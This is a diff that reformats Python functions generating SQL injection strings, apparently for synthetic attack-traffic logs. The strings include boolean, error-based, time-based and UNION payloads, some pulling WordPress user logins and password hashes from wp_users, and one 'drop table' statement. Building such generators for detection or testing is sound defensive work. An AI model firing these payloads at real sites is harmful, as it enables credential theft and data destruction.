@@ -73,16 +73,27 @@ def sql_of_a_tool(dice: random.Random, value: str) -> list[str]:
     four = "".join(dice.choices("abcdefghijklmnopqrstuvwxyzABCDEFGH", k=4))
     mark = "71" + "".join(dice.choices(("7a", "78", "6a", "6b", "76", "62", "70"), k=3)) + "71"
     run = [
-        f"{value} AND {yes}={yes}", f"{value} AND {yes}={no}", f"{value}) AND {yes}={yes} AND ({other}={other}",
-        f"{value}') AND {yes}={no} AND ('{four}'='{four}", f"{value}' AND {yes}={yes} AND '{four}'='{four}",
+        f"{value} AND {yes}={yes}",
+        f"{value} AND {yes}={no}",
+        f"{value}) AND {yes}={yes} AND ({other}={other}",
+        f"{value}') AND {yes}={no} AND ('{four}'='{four}",
+        f"{value}' AND {yes}={yes} AND '{four}'='{four}",
         f"{value}' AND {yes}={other}-- {four}",
         f"{value} AND (SELECT {no} FROM(SELECT COUNT(*),CONCAT(0x{mark},(SELECT (ELT({no}={no},1))),0x{mark},FLOOR(RAND(0)*2))x "
         "FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
         f"{value} AND EXTRACTVALUE({other},CONCAT(0x5c,0x{mark},(SELECT (ELT({other}={other},1))),0x{mark}))",
-        f"{value};SELECT SLEEP(5)#", f"{value} AND SLEEP(5)", f"{value}' AND SLEEP(5) AND '{four}'='{four}",
-        f"{value});SELECT PG_SLEEP(5)--", f"{value}' WAITFOR DELAY '0:0:5'--", f"{value} ORDER BY 1-- {four}", f"{value} ORDER BY {yes}-- {four}",
+        f"{value};SELECT SLEEP(5)#",
+        f"{value} AND SLEEP(5)",
+        f"{value}' AND SLEEP(5) AND '{four}'='{four}",
+        f"{value});SELECT PG_SLEEP(5)--",
+        f"{value}' WAITFOR DELAY '0:0:5'--",
+        f"{value} ORDER BY 1-- {four}",
+        f"{value} ORDER BY {yes}-- {four}",
     ]
-    run += [f"{value} UNION ALL SELECT {','.join(['NULL'] * columns)}-- {four}" for columns in range(1, dice.randrange(3, 14))]
+    run += [
+        f"{value} UNION ALL SELECT {','.join(['NULL'] * columns)}-- {four}"
+        for columns in range(1, dice.randrange(3, 14))
+    ]
     run.append(f"{value} UNION ALL SELECT NULL,CONCAT(0x{mark},user_login,0x{mark}),NULL FROM wp_users-- {four}")
     return run
 
@@ -91,13 +102,22 @@ def sql_of_a_robot(dice: random.Random, value: str) -> list[str]:
     """A few lines of an old list, tried and left."""
     number = dice.randrange(2, 40)
     every = [
-        f"{value}' or '{number}'='{number}", f"{value}' and {number}={number}-- ", f"-{number} union select 1,2,3,4-- ",
-        f"{value} or {number}={number}", f"{value}' order by {number}-- ", f"{value}\" or \"a\"=\"a", f"{value} and sleep({number})",
-        f"-1 union select {number},user_pass,3 from wp_users-- ", f"{value}'; drop table t{number}-- ",
+        f"{value}' or '{number}'='{number}",
+        f"{value}' and {number}={number}-- ",
+        f"-{number} union select 1,2,3,4-- ",
+        f"{value} or {number}={number}",
+        f"{value}' order by {number}-- ",
+        f'{value}" or "a"="a',
+        f"{value} and sleep({number})",
+        f"-1 union select {number},user_pass,3 from wp_users-- ",
+        f"{value}'; drop table t{number}-- ",
     ]
     return dice.sample(every, dice.randrange(2, 6))
 
 
 def filled(dice: random.Random, texts: tuple[str, ...], count: int) -> list[str]:
     """Some of the texts, with numbers of their own."""
-    return [text.format(n=dice.randrange(2, 250), d=dice.randrange(2, 9)) if "{" in text else text for text in dice.sample(texts, min(count, len(texts)))]
+    return [
+        text.format(n=dice.randrange(2, 250), d=dice.randrange(2, 9)) if "{" in text else text
+        for text in dice.sample(texts, min(count, len(texts)))
+    ]
